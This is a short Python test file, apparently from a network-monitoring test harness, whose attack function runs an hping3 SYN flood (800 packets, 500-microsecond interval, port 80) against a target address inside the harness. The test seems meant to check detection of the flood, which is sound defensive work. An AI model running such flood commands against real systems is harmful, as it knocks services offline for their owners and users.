# SPDX-License-Identifier: Apache-2.0
"""hping3 floods a victim with SYNs."""
from kit import *

FAMILIES = (4,)
ALLOWED, AT_LEAST, COUNT = TCP, 1, conversations


def attack(pot, out):
    pot.run(f"hping3 -q -n -I eth0 -S -p 80 -c 800 -i u500 {out.far(4)}")
